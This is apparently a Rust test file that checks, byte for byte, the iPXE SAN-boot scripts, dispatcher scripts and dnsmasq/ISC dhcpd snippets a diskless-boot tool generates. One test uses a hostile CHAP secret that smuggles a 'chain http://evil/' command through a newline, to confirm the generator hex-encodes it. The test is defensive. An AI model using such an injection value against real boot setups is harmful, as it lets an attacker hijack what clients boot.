//! Golden texts: the scripts and snippets a deployment writes, byte for byte.

#![allow(clippy::unwrap_used)] // tests may unwrap, as unit tests do

use ipxe_script::{
    BootFlow, Chainload, Chap, DhcpConfig, DhcpHost, Dispatcher, HostName, IscsiName,
    IscsiRootPath, Lun, MacAddr, Retry, SEED_BODY, SanBootScript, SanOptions, Script, Server, Word,
    fuzzing, seed_script,
};

fn client1_root_path() -> IscsiRootPath {
    IscsiRootPath::new(
        Server::Ipv4([10, 0, 2, 2].into()),
        3260,
        Lun::ZERO,
        IscsiName::new("iqn.2024-01.org.example.diskless:client1").unwrap(),
    )
    .unwrap()
}

/// The script `client add client1 --mac 52:54:00:12:34:56 --chap … --mutual-chap …` writes.
fn per_client_script() -> Script {
    let mut plan = SanBootScript::new(client1_root_path());
    plan.initiator = Some(IscsiName::new("iqn.2024-01.org.example.diskless:init-client1").unwrap());
    plan.chap = Some(
        Chap::mutual(
            "client1",
            "s3cret with spaces",
            "target1",
            "${injected}\nchain http://evil/",
        )
        .unwrap(),
    );
    plan.retry = Some(Retry {
        attempts: 3,
        delay_secs: 5,
    });
    plan.script().unwrap()
}

#[test]
fn per_client_sanboot_script_with_mutual_chap_and_retries() {
    let script = per_client_script();
    assert_eq!(
        script.to_string(),
        "#!ipxe
dhcp net0
set initiator-iqn iqn.2024-01.org.example.diskless:init-client1
set username client1
set password s3cret with spaces
set reverse-username target1
set reverse-password:hex 24:7b:69:6e:6a:65:63:74:65:64:7d:0a:63:68:61:69:6e:20:68:74:74:70:3a:2f:2f:65:76:69:6c:2f
set root-path iscsi:10.0.2.2::::iqn.2024-01.org.example.diskless:client1
set keep-san 1
set san-attempt:int32 0
:san-retry
inc san-attempt
sanboot ${root-path} && exit 0 || iseq ${san-attempt} 3 && goto san-failed || sleep 5 ; goto san-retry
:san-failed
echo SAN boot failed: ${errno}
exit 1
"
    );
    assert_eq!(Script::parse(&script.to_string()).unwrap(), script);
    for salt in 0..8 {
        fuzzing::check_script(&script, salt);
    }
    // The hostile secret is stored byte for byte, on one line.
    let stored: Vec<Vec<u8>> = script
        .to_string()
        .lines()
        .filter_map(fuzzing::stored_by_set)
        .collect();
    assert!(stored.contains(&b"${injected}\nchain http://evil/".to_vec()));
    assert!(stored.contains(&b"s3cret with spaces".to_vec()));
}

#[test]
fn per_client_script_with_the_uri_on_the_sanboot_line() {
    let mut plan = SanBootScript::new(
        IscsiRootPath::new(
            Server::Ipv6("fd00::2".parse().unwrap()),
            3261,
            Lun::new(10),
            IscsiName::new("iqn.2024-01.org.example:${net0/mac:hexhyp}").unwrap(),
        )
        .unwrap(),
    );
    plan.via_root_path_setting = false;
    plan.keep_san = false;
    plan.drive = Some(0x80);
    plan.interface = None;
    plan.chap = Some(Chap::one_way("u", "p").unwrap());
    assert_eq!(
        plan.script().unwrap().to_string(),
        "#!ipxe
dhcp
set username u
set password p
sanboot --drive 0x80 iscsi:[fd00::2]::3261:a:iqn.2024-01.org.example:${net0/mac:hexhyp}
"
    );
}

#[test]
fn seed_script_is_reproduced_byte_for_byte() {
    let seed = seed_script().unwrap();
    assert_eq!(seed.to_string(), format!("#!ipxe\n{SEED_BODY}"));
    fuzzing::check_script(&seed, 0);
}

#[test]
fn dispatcher_for_the_tftp_flow() {
    let d = Dispatcher::new(Word::literal("tftp://10.0.2.2/clients/").unwrap());
    let script = d.script().unwrap();
    assert_eq!(
        script.to_string(),
        "#!ipxe
chain --autofree tftp://10.0.2.2/clients/${net0/mac:hexhyp}.ipxe || goto failed
:failed
echo Boot failed for ${net0/mac:hexhyp}: ${errno}
exit 1
"
    );
    assert_eq!(
        Dispatcher::script_name(MacAddr::parse("52:54:00:12:34:56").unwrap()),
        "52-54-00-12-34-56.ipxe"
    );
    fuzzing::check_script(&script, 3);
}

#[test]
fn dispatcher_embedded_on_cd_with_dhcp_root_path_fallback() {
    let mut d = Dispatcher::new(Word::parse("http://${next-server}/clients/").unwrap());
    d.configure = true;
    d.root_path_fallback = true;
    let script = d.script().unwrap();
    assert_eq!(
        script.to_string(),
        "#!ipxe
dhcp net0 || goto failed
chain --autofree http://${next-server}/clients/${net0/mac:hexhyp}.ipxe || goto no-script
:no-script
isset ${root-path} || goto failed
sanboot ${root-path} || goto failed
:failed
echo Boot failed for ${net0/mac:hexhyp}: ${errno}
exit 1
"
    );
    fuzzing::check_script(&script, 5);
}

fn hosts() -> Vec<DhcpHost> {
    vec![
        DhcpHost {
            name: HostName::new("client1").unwrap(),
            mac: MacAddr::parse("52:54:00:12:34:56").unwrap(),
            address: Some([10, 0, 2, 15].into()),
            san: None,
        },
        DhcpHost {
            name: HostName::new("client2").unwrap(),
            mac: MacAddr::parse("52:54:00:12:34:57").unwrap(),
            address: None,
            san: Some(SanOptions {
                root_path: client1_root_path(),
                initiator: Some(IscsiName::new("iqn.2024-01.org.example:init2").unwrap()),
                keep_san: true,
            }),
        },
    ]
}

fn chainload() -> DhcpConfig {
    DhcpConfig {
        flow: BootFlow::Chainload(
            Chainload::new(
                Some([10, 0, 2, 2].into()),
                Word::literal("tftp://10.0.2.2/boot.ipxe").unwrap(),
            )
            .unwrap(),
        ),
        hosts: hosts(),
    }
}

#[test]
fn dnsmasq_chainload_snippet() {
    assert_eq!(
        chainload().dnsmasq().unwrap(),
        r#"# Generated by ipxe-script.
# iPXE identifies itself by user class "iPXE" and by sending option 175.
dhcp-userclass=set:ipxe,iPXE
dhcp-match=set:ipxe,175
# Flow: PXE loads iPXE over TFTP, iPXE loads the script; never iPXE again.
dhcp-match=set:bios,option:client-arch,0
dhcp-boot=tag:!ipxe,tag:bios,"undionly.kpxe",,10.0.2.2
dhcp-boot=tag:!ipxe,tag:!bios,"ipxe.efi",,10.0.2.2
dhcp-boot=tag:ipxe,tag:!san,"tftp://10.0.2.2/boot.ipxe",,10.0.2.2
dhcp-host=52:54:00:12:34:56,set:host-client1,10.0.2.15,client1
dhcp-host=52:54:00:12:34:57,set:san,set:host-client2,client2
dhcp-option=tag:ipxe,tag:host-client2,17,"iscsi:10.0.2.2::::iqn.2024-01.org.example.diskless:client1"
dhcp-option=tag:ipxe,tag:host-client2,203,"iqn.2024-01.org.example:init2"
dhcp-option=tag:ipxe,tag:host-client2,encap:175,8,1b
"#
    );
}

#[test]
fn isc_dhcpd_chainload_snippet() {
    assert_eq!(
        chainload().isc_dhcpd().unwrap(),
        r#"# Generated by ipxe-script.
option client-architecture code 93 = unsigned integer 16;
option iscsi-initiator-iqn code 203 = string;
option space ipxe;
option ipxe-encap-opts code 175 = encapsulate ipxe;
option ipxe.keep-san code 8 = unsigned integer 8;
# Flow: PXE loads iPXE over TFTP, iPXE loads the script; never iPXE again.
next-server 10.0.2.2;
if exists user-class and option user-class = "iPXE" {
  filename "tftp://10.0.2.2/boot.ipxe";
} elsif option client-architecture = 00:00 {
  filename "undionly.kpxe";
} else {
  filename "ipxe.efi";
}
host client1 {
  hardware ethernet 52:54:00:12:34:56;
  fixed-address 10.0.2.15;
}
host client2 {
  hardware ethernet 52:54:00:12:34:57;
  if exists user-class and option user-class = "iPXE" {
    filename "";
    option root-path "iscsi:10.0.2.2::::iqn.2024-01.org.example.diskless:client1";
    option iscsi-initiator-iqn "iqn.2024-01.org.example:init2";
    option ipxe.keep-san 1;
  }
}
"#
    );
}

#[test]
fn embedded_flow_snippets_hand_out_no_boot_file() {
    let config = DhcpConfig {
        flow: BootFlow::Embedded,
        hosts: hosts(),
    };
    let dnsmasq = config.dnsmasq().unwrap();
    let dhcpd = config.isc_dhcpd().unwrap();
    for text in [&dnsmasq, &dhcpd] {
        assert!(
            !text.contains("dhcp-boot") && !text.contains("filename"),
            "{text}"
        );
        assert!(!text.contains("next-server"), "{text}");
        assert!(text.contains("iscsi:10.0.2.2::::iqn.2024-01.org.example.diskless:client1"));
    }
    assert!(
        dnsmasq.contains(
            "dhcp-option=tag:ipxe,tag:host-client2,203,\"iqn.2024-01.org.example:init2\"\n"
        )
    );
    assert!(dhcpd.contains("    option iscsi-initiator-iqn \"iqn.2024-01.org.example:init2\";\n"));
}
